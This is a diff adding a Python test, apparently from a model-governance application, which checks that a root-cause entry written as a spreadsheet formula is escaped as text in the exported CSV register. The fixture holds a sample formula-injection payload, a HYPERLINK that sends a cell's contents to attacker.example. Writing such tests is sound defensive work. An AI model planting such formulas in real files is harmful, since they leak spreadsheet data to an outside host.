@@ -124,6 +124,19 @@ def test_mrm_register_has_passes_and_failures_and_exports_csv(people):
     assert csv_text.splitlines()[0].startswith("at,model,version") and "root cause not yet filed" in csv_text
 
 
+def test_a_root_cause_written_as_a_formula_is_exported_as_text(people, client):
+    make_model(people["platform"])
+    _, incident = rolled_back(people)
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"details")'
+    rootcause.root_cause_file(actor=people["oncall"], incident_id=incident.pk,
+                              **{**CAUSE, "cause": formula})
+    client.force_login(people["mrm"])
+    body = b"".join(client.get("/governance/register.csv").streaming_content).decode()
+    cells = [row.split(",", 8)[-1] for row in body.splitlines()[1:]]
+    assert any("'=HYPERLINK" in cell for cell in cells), body
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), body
+
+
 def test_threshold_change_needs_governance_and_mrm_and_applies_at_the_next_stage(people):
     make_model(people["platform"])
     canary = lifecycle.canary_initiate(actor=people["owner"], model_name="scorer", version="1.1.0",
